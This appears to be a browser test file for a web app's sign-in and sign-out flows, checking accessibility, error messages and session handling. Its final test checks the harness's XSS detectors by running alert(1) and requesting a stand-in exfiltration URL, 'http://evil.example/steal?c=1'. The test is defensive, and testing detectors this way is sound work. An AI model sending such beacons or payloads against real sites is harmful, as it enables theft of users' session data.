"""Signing in and out in a real browser, against the real server."""

from __future__ import annotations

import contextlib
import re

from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import expect

from tests.browser.conftest import assert_accessible, login, pwned, screenshot
from tests.factories import CollectionFactory


def test_login_page_passes_axe_and_loads_cleanly(page, page_log):
    page.goto("/accounts/login/")
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    screenshot(page, "login")
    assert_accessible(page)
    page_log.assert_clean()


def test_pages_name_an_icon_that_is_served(page):
    """Without one, every browser's first page logs a 404 for /favicon.ico."""
    page.goto("/accounts/login/")
    icon = page.locator("link[rel~=icon]")
    href = icon.first.get_attribute("href") if icon.count() else "/favicon.ico"
    response = page.request.get(href)
    assert response.status == 200, f"{href} answered {response.status}"


def test_login_page_styles_come_from_the_app(page, page_log):
    """The stylesheet is served (collected, by WhiteNoise), not missing under DEBUG off."""
    page.goto("/accounts/login/")
    stylesheets = page.evaluate("() => document.styleSheets.length")
    assert stylesheets >= 1
    assert any("/static/" in url for url in page_log.requests)
    page_log.assert_clean()


def test_staff_member_signs_in_through_the_form_and_sees_their_collection(
    page, page_log, make_user, staff_group
):
    """The rows this process commits are what the server shows."""
    CollectionFactory(name="Travel handbook").reader_groups.add(staff_group)
    CollectionFactory(name="Board minutes")
    user = make_user("staff", username="reader")
    login(page, user)
    expect(page).to_have_url(re.compile(r"/$"))
    expect(page.get_by_text("Travel handbook")).to_be_visible()
    expect(page.get_by_text("Board minutes")).to_have_count(0)
    screenshot(page, "home")
    assert_accessible(page)
    page_log.assert_clean()


def test_wrong_password_and_unknown_user_get_the_same_error(page, make_user):
    make_user("staff", username="reader")
    errors = []
    for username in ("reader", "nobody-by-this-name"):
        login(page, username, "not the password at all")
        expect(page).to_have_url(re.compile(r"/accounts/login/"))
        alert = page.get_by_role("alert")
        expect(alert).to_be_visible()
        errors.append(alert.inner_text())
    assert errors[0] == errors[1]
    assert "reader" not in errors[0]
    assert_accessible(page)


def test_sign_out_button_ends_the_session(page, page_log, sign_in):
    sign_in("staff")
    page.get_by_role("button", name="Sign out").click()
    expect(page).to_have_url(re.compile(r"/accounts/login/"))
    page.goto("/")
    expect(page).to_have_url(re.compile(r"/accounts/login/\?next=/$"))
    page_log.assert_clean()


# --- The harness's detectors, checked on the sign-in page -------------------------


def test_a_request_to_another_host_is_seen_and_a_payload_is_caught(page, page_log):
    """What XSS tests rely on: a beacon to another host, alert(), window.__pwned."""
    page.goto("/accounts/login/")
    assert pwned(page) is None
    page.evaluate("() => alert(1)")
    assert pwned(page) == "alert(1)"
    with contextlib.suppress(PlaywrightError):  # the network is closed
        page.goto("http://evil.example/steal?c=1")
    assert page_log.off_host == ["http://evil.example/steal?c=1"]
    page_log.requests.clear()  # seen; the teardown would fail the test otherwise
